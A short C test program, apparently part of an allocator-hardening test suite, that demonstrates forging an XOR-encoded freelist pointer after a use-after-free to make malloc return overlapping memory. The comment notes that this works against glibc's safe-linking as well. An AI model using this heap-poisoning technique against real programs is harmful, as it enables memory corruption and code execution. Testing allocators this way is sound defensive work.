/* Attack 2, XOR-forged poisoning from observed words: word 0 of a freed
 * block read after free (observed, the encoded link to b) becomes
 * observed ^ addr(b) ^ addr(target).  Against any encoding
 * next ^ f(key, position) (numaslab's old next ^ key ^ addr >> 4, glibc's
 * safe-linking next ^ pos >> 12) that is exactly the encoded link to
 * target.  Then malloc(48) until overlap or abort. */
#include "attack.h"

int main(void)
{
    atk_start("poison_xor", "word 0 of a freed 48-byte block := observed ^ addr(b) ^ addr(live target)");
    struct poison P = poison_setup(48);
    set_word(P.a, 0, P.observed ^ P.b ^ P.target);
    return malloc_until_overlap(48, &P.target, 1, 48, ATK_TRIES);
}
